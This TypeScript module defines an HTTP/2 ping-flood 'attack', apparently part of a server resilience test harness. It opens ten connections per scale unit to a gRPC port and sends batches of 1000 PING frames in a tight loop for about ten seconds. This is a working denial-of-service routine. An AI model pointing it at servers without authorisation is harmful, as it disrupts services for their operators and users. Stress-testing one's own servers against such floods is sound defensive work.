import type { Attack } from '../attack.js';
import { flood } from '../flood.js';
import { PING, PREFACE, SETTINGS } from '../http2-frames.js';

const CONNECTIONS = 10;
const PINGS = Buffer.concat(Array<Buffer>(1000).fill(PING));

export const attack: Attack = {
  title: `${CONNECTIONS} connections that ping in a tight loop`,
  run({ host, ports }, scale, signal) {
    const opening = Buffer.concat([PREFACE, SETTINGS]);
    const { grpc: port } = ports;
    return flood(
      { host, port, connections: CONNECTIONS * scale, opening, packet: () => PINGS },
      this.durationMs ?? 10_000,
      signal,
    );
  },
};
